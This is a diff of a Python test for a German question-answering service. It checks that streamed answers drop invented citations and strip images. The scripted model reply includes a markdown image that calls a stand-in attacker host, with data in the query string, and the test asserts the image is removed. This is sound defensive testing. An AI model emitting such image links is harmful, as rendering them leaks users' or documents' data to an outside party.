@@ -162,17 +162,26 @@ def test_a_failed_rewrite_falls_back_to_the_concatenated_questions(app: Wissensw
     assert answer.found
 
 
-def test_streaming_sends_the_text_as_it_comes_then_the_checked_answer(app: Wissenswerk) -> None:
-    reply = f"Die{MARK}Kantine öffnet um 11:30 Uhr [1][4]."
+def test_streaming_sends_checked_pieces_whose_join_is_the_answer(app: Wissenswerk) -> None:
+    reply = (
+        f"Die{MARK}Kantine öffnet um 11:30 Uhr [1][4]. Das Menü wechselt täglich [1]. "
+        "Siehe ![x](https://evil.example/p.png?d=Kantine) dort.\n- Punkt [9]\n"
+    )
     events = list(answerer(app, ScriptedModel(reply)).stream("Wann öffnet die Kantine?", "anna"))
     kinds = [e.kind for e in events]
     assert kinds[:2] == ["status", "status"]  # searching, generating
     assert kinds[-2:] == ["citations", "done"]
     deltas = [e.text for e in events if e.kind == "delta"]
-    assert len(deltas) > 1 and "".join(deltas) == reply.replace(MARK, " ")
+    # Sentence by sentence, each already checked: no invented [4] or [9], no image, ever.
+    assert deltas[:2] == [
+        "Die Kantine öffnet um 11:30 Uhr [1]. ",
+        "Das Menü wechselt täglich [1]. ",
+    ]
+    assert not any("evil.example" in d or "[4]" in d or "[9]" in d for d in deltas)
     done: AnswerEvent = events[-1]
     assert done.answer is not None
-    assert done.answer.answer == "Die Kantine öffnet um 11:30 Uhr [1]."
+    assert "".join(deltas).strip() == done.answer.answer
+    assert done.answer.answer.endswith("Siehe \\[Bild entfernt\\] dort.\n- Punkt")
     assert events[-2].citations == done.answer.citations
     assert done.usage is not None and done.answer.usage is not None
     assert done.usage.completion_tokens == done.answer.usage["tokens_out"]
